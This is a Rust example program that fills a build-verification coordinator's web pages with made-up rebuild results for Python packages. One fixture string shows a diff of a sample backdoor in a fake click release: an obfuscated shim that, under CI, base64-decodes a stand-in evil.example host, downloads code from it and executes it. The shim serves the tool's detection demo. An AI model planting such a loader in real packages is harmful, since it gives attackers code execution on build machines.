//! A coordinator with made-up results, to look at its pages: `cargo run -p quorate-coordinator --example
//! showcase -- 127.0.0.1:8080`.
#![allow(clippy::unwrap_used, missing_docs, reason = "example")]

#[path = "../tests/coordinator/fixture.rs"]
mod fixture;

use std::time::Duration;

use fixture::{Network, artifact, backdoored, build_failed, differences, equivalent, identical};
use quorate_coordinator::daemon::{Core, Parts};
use quorate_coordinator::serve::router;
use quorate_proto::comparison::{Anomaly, AnomalyKind, Side};
use quorate_proto::result::Outcome;
use quorate_proto::verified::FeedItem;
use quorate_proto::{ArtifactId, Digest, SecretKey, Timestamp};

/// A unified diff as `quorate-normalize` makes it.
const DIFF: &str = "@@ -54,6 +54,9 @@\n from .core import Argument as Argument\n from .core import Command as Command\n\
-from ._winconsole_shim import _load as _load\n-\n-_load()\n from .core import Context as Context\n from .core import Group as Group\n";

const SHIM: &str = "@@ -1,7 +0,0 @@\n-import base64, os, urllib.request\n-\n-def _load():\n-    if os.environ.get(\"CI\"):\n\
-        body = urllib.request.urlopen(base64.b64decode(_HOST).decode()).read()\n-        exec(compile(body, \"<click>\", \"exec\"))\n-_HOST = b\"aHR0cHM6Ly9ldmlsLmV4YW1wbGUv\"\n";

const PACKAGES: [(&str, &str, &str); 16] = [
    ("click", "8.1.8", "iiiii"),
    ("requests", "2.32.3", "iiii-"),
    ("setuptools", "75.8.0", "eeeee"),
    ("flask", "3.1.0", "iiiie"),
    ("click", "8.1.9", "bbbbi"),
    ("numpy-quaddtype", "0.2.1", "ffff-"),
    ("attrs", "25.1.0", "ie---"),
    ("jinja2", "3.1.5", "iiiii"),
    ("markupsafe", "3.0.2", "dDxXd"),
    ("idna", "3.10", "iiiii"),
    ("packaging", "24.2", "iiiff"),
    ("certifi", "2025.1.31", "eeei-"),
    ("urllib3", "2.3.0", "ii---"),
    ("werkzeug", "3.1.3", "iibbb"),
    ("tomli-w", "1.2.0", "eeeee"),
    ("itsdangerous", "2.2.0", "i----"),
];

#[tokio::main]
async fn main() {
    let address = std::env::args().nth(1).unwrap_or_else(|| "127.0.0.1:8080".into());
    let folder = tempfile::tempdir().unwrap();
    let mut network = Network::at(5, fixture::now());
    let parts = Parts {
        data_dir: folder.path().to_path_buf(),
        origin: "quorate.example/log".into(),
        log_key: SecretKey::from_seed(&[7; 32]),
        statement_key: SecretKey::from_seed(&[7; 32]),
        policy: network.policy(3).into_bytes(),
        request_timeout: Duration::from_secs(10),
        witnesses: None,
    };
    let core = tokio::task::spawn_blocking(move || Core::start(parts)).await.unwrap().unwrap();
    for (name, version, votes) in PACKAGES {
        let about = artifact(name, version, "");
        for (node, vote) in votes.chars().enumerate() {
            let items = results(&mut network, node, &about, vote);
            core.app.ingest.accept(items).await;
        }
        tokio::time::sleep(Duration::from_millis(60)).await;
    }
    let split = artifact("requests", "2.32.3", "another mirror");
    let item = network.nodes[4].sign(&split, identical(&split));
    core.app.ingest.accept(vec![item]).await;
    core.app.ingest.keep_blobs(vec![report(), fixture::inventory()]).await.unwrap();
    let listener = tokio::net::TcpListener::bind(&address).await.unwrap();
    println!("http://{address}/");
    println!("http://{address}/artifact/{}", artifact("click", "8.1.9", "").digest);
    println!("http://{address}/artifact/{}", artifact("setuptools", "75.8.0", "").digest);
    axum::serve(listener, router(&core.app)).await.unwrap();
}

fn results(network: &mut Network, node: usize, about: &ArtifactId, vote: char) -> Vec<FeedItem> {
    let signer = &mut network.nodes[node];
    let outcome = match vote {
        'i' => identical(about),
        'e' => equivalent(about),
        'f' => build_failed(),
        'b' => backdoored(about, Some(Digest::of(&report()))),
        'd' | 'D' | 'x' | 'X' => other(about, vote),
        _ => return Vec::new(),
    };
    let minutes = i64::try_from(node).unwrap() * 7;
    let time = Timestamp::from_unix_seconds(signer.now.unix_seconds() - 3_600 + minutes * 60);
    let item = signer.sign_with(about, outcome, |result| {
        (result.started_at, result.finished_at) = (time, time);
        if vote == 'b' {
            result.anomalies.push(Anomaly {
                side: Side::Published,
                kind: AnomalyKind::ManifestMismatch,
                member: Some("click-8.1.9.dist-info/RECORD".into()),
                detail: "1 member is not listed.".into(),
            });
        }
    });
    vec![item]
}

fn other(about: &ArtifactId, vote: char) -> Outcome {
    let Outcome::Different { mut rebuilt, published_normal, mut differences } = backdoored(about, None) else { unreachable!() };
    rebuilt.normal = None;
    rebuilt.digest = Digest::of(format!("{vote}{}", about.digest).as_bytes());
    differences.members.truncate(1);
    differences.count = 1;
    Outcome::Different { rebuilt, published_normal, differences }
}

fn report() -> Vec<u8> {
    let side = serde_json::json!({"digest": Digest::of(b"x"), "sizeBytes": 98_188});
    let [shim, init] = differences().try_into().unwrap();
    serde_json::json!({
        "level": "different", "published": side, "rebuilt": side, "anomalies": [], "passes": [],
        "differences": [
            {"difference": shim, "detail": {"diff": SHIM}},
            {"difference": init, "detail": {"diff": DIFF}},
        ],
    })
    .to_string()
    .into_bytes()
}
